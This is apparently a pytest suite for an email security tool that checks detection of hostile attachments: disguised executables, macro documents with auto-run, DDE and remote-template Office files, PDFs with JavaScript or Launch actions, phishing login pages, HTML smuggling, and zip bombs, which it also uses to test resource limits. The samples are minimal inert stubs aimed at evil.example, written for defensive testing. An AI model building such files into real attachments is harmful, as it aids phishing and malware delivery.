"""Attached files: what they are, what they hide, what they do; and that looking at them is bounded."""

from __future__ import annotations

import io
import tarfile
import time
import tracemalloc
import zipfile
import zlib
from collections.abc import Callable

import pytest

from courriel.model.threat import Finding
from courriel.threats.signals.attachments import LOOKS
from courriel.threats.signals.attachments.file import FILES
from courriel.threats.view import Attachment, View
from tests.formats.test_archives import MODULE, ole, packed
from tests.threats.views import found, view

PDF = b"%%PDF-1.7\n1 0 obj <</Type /Page %s>> endobj"
LOGIN = b"<html><form action='https://evil.example/x'><input type=password></form>"


def attachment(name: str, octets: bytes, media_type: str = "application/octet-stream") -> Attachment:
    return Attachment(name, media_type, len(octets), False, lambda most: octets[:most])


def message(*files: tuple[str, bytes], text: str = "") -> View:
    return view(text=text, attachments=tuple(attachment(name, octets) for name, octets in files))


def seen(name: str, octets: bytes, text: str = "") -> dict[str, Finding]:
    return found(LOOKS, message((name, octets), text=text))


def named(names: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, octets in names.items():
            archive.writestr(name, octets)
    return out.getvalue()


def locked(octets: bytes) -> bytes:
    """The same archive with the bit of encryption set in both headers.  APPNOTE.TXT 4.4.4."""
    changed = bytearray(octets)
    changed[6] |= 1
    changed[octets.index(b"PK\x01\x02") + 8] |= 1
    return bytes(changed)


def tarred(name: str, octets: bytes) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as tar:
        info = tarfile.TarInfo(name)
        info.size = len(octets)
        tar.addfile(info, io.BytesIO(octets))
    return out.getvalue()


def document(**parts: bytes) -> bytes:
    files = {name.replace("__", "/"): octets for name, octets in parts.items()}
    return named({"[Content_Types].xml": b"<Types/>"} | files)


def related(kind: str, target: str) -> bytes:
    return (
        f'<Relationships><Relationship Id="a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        f'{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    ).encode()


TEMPLATE = related("attachedTemplate", "https://evil.example/t.dotm")
BAD: list[tuple[str, str, bytes]] = [
    ("attachments.program", "setup.exe", b"MZ\x90"),
    ("attachments.program", "photo.jpg", b"MZ\x90"),
    ("attachments.script", "facture.js", b"eval(1)"),
    ("attachments.script", "notice.hta", b"<html><script>1</script>"),
    ("attachments.shortcut", "rapport.lnk", b"L\0\0\0\x01\x14\x02\0"),
    ("attachments.disk-image", "scan.iso", b"\0" * 32769 + b"CD001"),
    ("attachments.notebook", "notes.one", b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3"),
    ("attachments.disguised", "invoice.pdf.exe", b"MZ\x90"),
    ("attachments.disguised", "invoice.pdf" + " " * 40 + ".exe", b"MZ\x90"),
    ("attachments.disguised", "photo\u202egpj.exe", b"MZ\x90"),
    ("attachments.disguised", "facture.pdf", b"\xff\xd8\xff\xe0"),
    ("attachments.disguised", "scan.png", b"<html><body>"),
    ("attachments.archive-program", "facture.zip", named({"facture.pdf.js": b"1"})),
    ("attachments.archive-program", "facture.tar.gz", tarred("facture.exe", b"MZ\x90")),
    ("attachments.archive-program", "facture.exe.gz", zlib.compress(b"MZ\x90", wbits=31)),
    ("attachments.archive-program", "outer.zip", named({"inner.zip": named({"run.vbs": b"1"})})),
    ("attachments.archive-nested", "outer.zip", named({"inner.zip": named({"a.txt": b"1"})})),
    ("attachments.archive-locked", "doc.zip", locked(named({"a.txt": b"1"}))),
    ("attachments.archive-locked", "doc.rar", b"Rar!\x1a\x07\x01\x00" + b"\0\0\0\0\x0b\x04" + b"\0" * 20),
    ("attachments.archive-rare", "doc.ace", b"\0" * 7 + b"**ACE**"),
    ("attachments.page", "bank.html", b"<html><body>hello"),
    ("attachments.page-login", "bank.html", LOGIN),
    ("attachments.page-login", "doc.zip", named({"bank.html": LOGIN})),
    ("attachments.page-redirect", "fax.htm", b"<html><meta http-equiv=refresh content='0;url=https://evil.example'>"),
    ("attachments.page-redirect", "fax.htm", b"<html><script>window.location.href='https://evil.example'</script>"),
    ("attachments.page-smuggling", "fax.htm", b"<script>x=new Blob([atob('" + b"QUJD" * 600 + b"')])</script>"),
    ("attachments.drawing-script", "logo.svg", b"<svg><script>location='https://evil.example'</script></svg>"),
    ("attachments.drawing-script", "logo.svg", b"<svg onload='x()'></svg>"),
    ("attachments.macros", "order.xlsm", document(**{"xl__vbaProject.bin": b"x"})),
    ("attachments.macros", "order.doc", ole({"Macros/": b"", "VBA/": b""})),
    ("attachments.macros-start", "order.doc", ole({"VBA/": b"", "M": packed(MODULE + b"\nSub AutoOpen()\nShell x")})),
    ("attachments.remote-template", "cv.docx", document(**{"word___rels__settings.xml.rels": TEMPLATE})),
    ("attachments.remote-template", "cv.rtf", b"{\\rtf1{\\*\\template https://evil.example/a}}"),
    (
        "attachments.dde",
        "cv.docx",
        document(**{"word__document.xml": b"<w:instrText>DDEAUTO c:\\\\windows</w:instrText>"}),
    ),
    ("attachments.object", "cv.rtf", b"{\\rtf1{\\object\\objdata 0105}}"),
    ("attachments.object", "cv.docx", document(**{"word__embeddings__oleObject1.bin": b"x"})),
    ("attachments.document-locked", "paie.docx", ole({"EncryptedPackage": b"x", "EncryptionInfo": b"x"})),
    ("attachments.document-locked", "paie.doc", ole({"WordDocument": b"\xec\xa5\xc1\0" + b"\0" * 7 + b"\x01"})),
    ("attachments.pdf-script", "a.pdf", PDF % b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
    ("attachments.pdf-script", "a.pdf", PDF % b"/AA << /S /J#61vaScript >>"),
    (
        "attachments.pdf-script",
        "a.pdf",
        b"%PDF-1.7\n2 0 obj <</Type /ObjStm /Filter /FlateDecode>> stream\n" + zlib.compress(b"/S /JavaScript"),
    ),
    ("attachments.pdf-launch", "a.pdf", PDF % b"/A << /S /Launch /F (cmd.exe) >>"),
    ("attachments.pdf-files", "a.pdf", PDF % b"/Names << /EmbeddedFiles 3 0 R >>"),
    ("attachments.pdf-form", "a.pdf", PDF % b"/S /SubmitForm"),
    ("attachments.pdf-link", "a.pdf", PDF % b"/URI (https://evil.example/login)"),
    ("attachments.pdf-locked", "a.pdf", PDF % b"/Encrypt 9 0 R" + b"<< /Filter /Standard /V 2 >>"),
]
GOOD: list[tuple[str, bytes]] = [
    ("photo.jpg", b"\xff\xd8\xff\xe0"),
    ("report.pdf", PDF % b"/URI (https://example.net/terms)"),
    ("report.docx", document(**{"word__document.xml": b"<w:t>hello</w:t>"})),
    ("report.docx", document(**{"word___rels__document.xml.rels": related("hyperlink", "https://example.org/")})),
    ("old.doc", ole({"WordDocument": b"\xec\xa5\xc1\0" + b"\0" * 8})),
    ("letter.rtf", b"{\\rtf1 hello}"),
    ("table.csv", b"a;b\n1;2\n"),
    ("logo.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0'/></svg>"),
    ("photos.zip", named({"a.jpg": b"\xff\xd8\xff", "b.jpg": b"\xff\xd8\xff"})),
    ("patch.diff", b"--- a\n+++ b\n"),
    ("build.sh", b"#!/bin/sh\nmake\n"),
    ("signature.asc", b"-----BEGIN PGP SIGNATURE-----"),
    ("notes.v1.2.txt", b"hello"),
    ("empty.txt", b""),
    ("", b"hello"),
]


@pytest.mark.parametrize(("signal", "name", "octets"), BAD)
def test_found(signal: str, name: str, octets: bytes) -> None:
    finding = seen(name, octets).get(signal)
    assert finding is not None and finding.facts["file"].startswith(name[:20])


@pytest.mark.parametrize(("name", "octets"), GOOD)
def test_left_alone(name: str, octets: bytes) -> None:
    assert seen(name, octets) == {}


@pytest.mark.parametrize("text", ["The password is 4711x", "Mot de passe : soleil12", "Passwort: geheim"])
def test_a_key_beside_the_lock(text: str) -> None:
    octets = locked(named({"a.txt": b"1"}))
    findings = seen("doc.zip", octets, text)
    assert "attachments.archive-key" in findings and "attachments.archive-locked" not in findings
    assert "attachments.archive-key" not in seen("doc.zip", octets, "Here is the archive, Paul")


def test_a_program_far_down_names_its_way() -> None:
    octets = named({"b.zip": named({"c.zip": named({"run.exe": b"MZ\x90"})})})
    assert seen("a.zip", octets)["attachments.program"].facts["file"] == "a.zip › b.zip › c.zip › run.exe"


def bomb() -> bytes:
    """Says that it unpacks to 500 MB; APPNOTE.TXT 4.4.9 of the central directory."""
    octets = bytearray(named({"a.txt": b"\0" * (1 << 20)}))
    at = octets.index(b"PK\x01\x02") + 24
    octets[at : at + 4] = (500 << 20).to_bytes(4, "little")
    return bytes(octets)


def many() -> bytes:
    return named({f"{number}.html": b"<html>" + b"x" * 50_000 for number in range(500)})


def deep() -> bytes:
    octets = named({"a.txt": b"x"})
    for _ in range(30):
        octets = named({"a.zip": octets})
    return octets


def odd_pdf() -> bytes:
    return b"%PDF-1.7\n" + b"/ObjStm <" * 50_000 + b"/A#41#41#41" * 50_000 + b"/URI (" * 50_000


def odd_page() -> bytes:
    return b"<html>" + b"<!--" * 50_000 + b"<form " * 50_000 + b"<iframe " * 50_000 + b"http-equiv=refresh" * 50_000


def odd_rtf() -> bytes:
    return b"{\\rtf1" + b"\\*\\template " * 100_000


HOSTILE: list[tuple[str, Callable[[], bytes]]] = [
    ("a.zip", bomb),
    ("b.zip", many),
    ("c.zip", deep),
    ("d.pdf", odd_pdf),
    ("e.html", odd_page),
    ("f.rtf", odd_rtf),
    ("g.doc", lambda: ole({"VBA/": b""})[:900] + b"\xff" * 2_000_000),
    ("h.gz", lambda: zlib.compress(b"\0" * (50 << 20), wbits=31)),
]


@pytest.mark.parametrize(("name", "make"), HOSTILE)
def test_hostile_files_are_bounded(name: str, make: Callable[[], bytes]) -> None:
    """50 ms for a megabyte and 50 MB in all; the clock of a test machine is given room."""
    octets = make()
    tracemalloc.start()
    seen(name, octets)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    before = time.process_time()
    seen(name, octets)
    assert time.process_time() - before < 0.05 * max(1.0, len(octets) / 2**20) * 4
    assert peak < 50 << 20


def test_a_bomb_is_named() -> None:
    assert "attachments.archive-bomb" in seen("a.zip", bomb())


def test_files_that_are_looked_at_are_counted() -> None:
    files = [(f"{number}.txt", b"hello") for number in range(FILES)]
    assert found(LOOKS, message(*files, ("run.exe", b"MZ\x90"))) == {}
